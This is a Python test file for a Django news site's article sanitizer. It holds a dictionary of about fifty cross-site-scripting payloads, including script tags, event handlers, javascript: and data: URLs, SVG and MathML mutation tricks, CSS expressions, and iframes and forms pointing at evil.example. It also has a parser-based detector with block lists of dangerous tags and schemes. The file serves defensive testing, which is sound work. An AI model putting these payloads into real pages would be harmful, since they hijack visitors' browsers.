"""Hostile article HTML is harmless both as stored and as the public page shows it."""

from html.parser import HTMLParser

import pytest
from django.urls import reverse

from articles.models import Article
from articles.sanitize import clean_html
from tests.admin_forms import article_data
from tests.factories import make_article, make_issue, make_page
from tests.people import client_for

pytestmark = pytest.mark.django_db

HOSTILE = {
    "script tag": "<p>前</p><script>alert(1)</script><p>后</p>",
    "script, mixed case": "<ScRiPt>alert(1)</sCrIpT>",
    "script split by a nested tag": "<scr<script>ipt>alert(1)</script>",
    "img onerror": '<img src="x" onerror="alert(1)">',
    "event handler on a paragraph": '<p onmouseover="alert(1)" style="text-align:center">文</p>',
    "body onload": '<body onload="alert(1)">文</body>',
    "javascript: link": '<a href="javascript:alert(1)">点我</a>',
    "javascript: mixed case": '<a href="JaVaScRiPt:alert(1)">点我</a>',
    "javascript: entity-encoded": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">点我</a>'
    ),
    "javascript: hex entities without semicolons": (
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">点我</a>'
    ),
    "javascript: with a tab and newline": '<a href="jav&#x09;ascr&#x0A;ipt:alert(1)">点我</a>',
    "javascript: leading spaces": '<a href="  \x01javascript:alert(1)">点我</a>',
    "vbscript: link": '<a href="vbscript:msgbox(1)">点我</a>',
    "data: link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点我</a>',
    "data: image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "javascript: image": '<img src="javascript:alert(1)">',
    "svg onload": '<svg onload="alert(1)"><circle r="5"/></svg>',
    "svg script": "<svg><script>alert(1)</script></svg>",
    "svg foreignObject": "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "svg animate href": '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>',
    "mathml mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "mathml href": '<math href="javascript:alert(1)">CLICK</math>',
    "css expression": '<p style="width: expression(alert(1))">文</p>',
    "css url()": '<p style="width:10px; background-image: url(javascript:alert(1))">文</p>',
    "css escaped url": '<p style="width:\\75rl(javascript:alert(1))">文</p>',
    "css behavior": '<p style="behavior: url(x.htc); -moz-binding: url(x.xml#x)">文</p>',
    "style element": "<style>body{background:url(javascript:alert(1))}</style><p>文</p>",
    "style import": '<style>@import "https://evil.example/x.css";</style>',
    "broken markup": '<p title="</p><img src=x onerror=alert(1)>">文</p><img src=x onerror=alert(1)//',
    "unclosed attribute": '<img src="x" alt="a onerror=alert(1) b',
    "comment trick": "<!--><img src=x onerror=alert(1)>-->",
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "cdata trick (CVE-2024-24815 kind)": "<p><![CDATA[</p><img src=x onerror=alert(1)>]]></p>",
    "cdata in noscript": "<noscript><![CDATA[</noscript><img src=x onerror=alert(1)>]]></noscript>",
    "noscript title": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "iframe": '<iframe src="https://evil.example/"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": '<object data="https://evil.example/x.swf"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "form": (
        '<form action="https://evil.example/"><input name="password"'
        '><button formaction="javascript:alert(1)">x</button></form>'
    ),
    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "template": "<template><script>alert(1)</script></template>",
    "id and name clobbering": (
        '<a id="csrftoken" name="csrftoken" href="/x">x</a><img name="getElementById" src="/a.png">'
    ),
    "target to a named frame": '<a href="/x" target="opener">x</a>',
    "srcset and formaction": (
        '<img srcset="javascript:alert(1) 1x" src="/a.png"><button formaction="javascript:alert(1)">x</button>'
    ),
    "xmp and plaintext": "<xmp><script>alert(1)</script></xmp><plaintext><script>alert(1)</script>",
    "null byte in tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
}

URL_ATTRIBUTES = {"href", "src", "action", "formaction", "srcset", "data", "xlink:href", "background", "poster"}
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")
BAD_TAGS = {
    "script",
    "style",
    "iframe",
    "frame",
    "object",
    "embed",
    "svg",
    "math",
    "base",
    "form",
    "input",
    "button",
    "link",
    "template",
    "applet",
    "xmp",
    "plaintext",
    "noscript",
}


class DangerFinder(HTMLParser):
    """Collect everything in a document that could run script or load from elsewhere."""

    def __init__(self, *, allow_script_src=False, allow_head=False):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.allow_script_src = allow_script_src
        self.allow_head = allow_head

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        if (
            (tag == "script" and self.allow_script_src and attrs.get("src", "").startswith("/static/"))
            or (tag == "link" and self.allow_head and attrs.get("href", "").startswith("/static/"))
            or (tag == "meta" and self.allow_head and "http-equiv" not in attrs)
        ):
            pass
        elif tag in BAD_TAGS or tag == "meta":
            self.problems.append(f"<{tag}>")
        for name, value in attrs.items():
            value = (value or "").strip().lower()
            compact = "".join(ch for ch in value if ch > " ")
            if name.startswith("on"):
                self.problems.append(f"{tag}[{name}]")
            if name in URL_ATTRIBUTES and compact.startswith(BAD_SCHEMES):
                self.problems.append(f"{tag}[{name}]={value[:30]}")
            if name == "style" and any(
                bad in compact for bad in ("expression", "url(", "\\", "behavior", "binding", "@import")
            ):
                self.problems.append(f"{tag}[style]={value[:30]}")
            if name in {"id", "name", "srcdoc", "srcset", "formaction"} and not self.allow_head:
                self.problems.append(f"{tag}[{name}]")
            if name == "target" and value != "_blank":
                self.problems.append(f"{tag}[target]={value}")


def problems_in(html, **kwargs):
    finder = DangerFinder(**kwargs)
    finder.feed(html)
    finder.close()
    return finder.problems


def test_the_checker_itself_sees_every_payload_as_dangerous():
    missed = [name for name, payload in HOSTILE.items() if not problems_in(payload)]
    # These are dangerous only through the way a browser re-parses them;
    # the checker's parser sees no tag, so they are checked by their output.
    assert set(missed) <= {
        "script split by a nested tag",
        "null byte in tag",
        "comment trick",
        "conditional comment",
        "cdata trick (CVE-2024-24815 kind)",
        "unclosed attribute",
        "broken markup",
    }


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_html_is_stored_harmless(name):
    stored = make_article(body=HOSTILE[name]).body
    assert problems_in(stored) == [], stored
    assert "<script" not in stored.lower()
    # Cleaning is stable: what is stored comes back unchanged when saved again.
    assert clean_html(stored) == stored


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_html_is_harmless_on_the_public_article_page(name, client):
    # The page around the article (its own links, search form, scripts) is
    # the same for every article: compare with a benign one, so that anything
    # more is what the body brought in.
    page = make_page()
    benign = make_article(page, headline="同一标题", body="<p>正文</p>")
    hostile = make_article(page, headline="同一标题", body=HOSTILE[name])
    pages = [client.get(a.get_absolute_url()) for a in (benign, hostile)]
    assert [p.status_code for p in pages] == [200, 200]
    baseline, found = (sorted(problems_in(p.content.decode(), allow_script_src=True, allow_head=True)) for p in pages)
    assert found == baseline, f"the body added {set(found) - set(baseline) or found}"


def test_hostile_html_typed_into_the_admin_is_stored_harmless(reporter):
    page = make_page(make_issue(published=False))
    # Django's forms refuse NUL characters outright, so that payload is left out here.
    body = "".join(v for k, v in HOSTILE.items() if k != "null byte in tag")
    response = client_for(reporter).post(reverse("admin:articles_article_add"), article_data(page=page, body=body))
    assert response.status_code == 302
    stored = Article.objects.get().body
    assert problems_in(stored) == []


def test_what_ckeditor_legitimately_writes_is_kept():
    ckeditor_html = (
        '<h2>标题</h2><h3>小标题</h3><p style="text-align:center"><strong>粗</strong><em>斜</em><u>下划线</u>'
        "<s>删除</s><sub>下</sub><sup>上</sup></p>"
        "<ol><li>一</li><li>二</li></ol><ul><li>甲</li></ul><blockquote><p>引文</p></blockquote><hr>"
        '<table border="1" cellpadding="1" cellspacing="1" style="width:500px"><caption>表</caption>'
        '<thead><tr><th scope="col">项目</th></tr></thead><tbody><tr><td colspan="2">值</td></tr></tbody></table>'
        '<p><img alt="车间" src="/media/uploads/2023/01/01/a.jpg" style="height:200px; width:300px"></p>'
        '<p><a href="https://www.example.org/" target="_blank">链接</a> <a href="mailto:news@example.org">邮件</a></p>'
    )
    cleaned = clean_html(ckeditor_html)
    for kept in (
        "<h2>标题</h2>",
        "<h3>小标题</h3>",
        '<p style="text-align:center">',
        "<strong>粗</strong>",
        "<em>斜</em>",
        "<u>下划线</u>",
        "<s>删除</s>",
        "<sub>下</sub>",
        "<sup>上</sup>",
        "<ol><li>一</li>",
        "<ul><li>甲</li></ul>",
        "<blockquote><p>引文</p></blockquote>",
        "<hr>",
        'border="1"',
        'style="width:500px"',
        "<caption>表</caption>",
        '<th scope="col">项目</th>',
        '<td colspan="2">值</td>',
        'src="/media/uploads/2023/01/01/a.jpg"',
        'style="height:200px;width:300px"',
        'href="https://www.example.org/"',
        'target="_blank"',
        'rel="noopener noreferrer"',
        'href="mailto:news@example.org"',
    ):
        assert kept in cleaned, kept
